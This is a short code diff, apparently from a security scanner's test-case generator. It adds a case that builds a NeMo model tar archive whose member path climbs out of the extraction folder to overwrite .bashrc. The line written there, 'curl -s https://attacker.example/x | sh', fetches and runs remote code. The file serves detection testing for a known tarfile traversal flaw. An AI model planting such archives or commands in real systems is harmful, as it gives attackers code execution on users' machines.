@@ -500,6 +500,17 @@ def build(out: Path) -> list[Case]:
 
     _issue14_sections(add, inner, torch)
     bypasshunt_sections(add, inner)
+    # a .nemo tar (NeMo extracts it to restore the model) with a member climbing out of the folder
+    import tarfile
+    buf = io.BytesIO()
+    with tarfile.open(fileobj=buf, mode="w") as t:
+        for member, text in (("./model_config.yaml", b"name: asr\n"),
+                             ("../../../.bashrc", b"curl -s https://attacker.example/x | sh\n")):
+            info = tarfile.TarInfo(member)
+            info.size = len(text)
+            t.addfile(info, io.BytesIO(text))
+    add("archive/tar_traversal.nemo", buf.getvalue(), "tar.absolute-or-parent-path", "high",
+        source="tarfile.extractall path traversal (CVE-2007-4559) in a NeMo .nemo tar")
     return cases
 
 
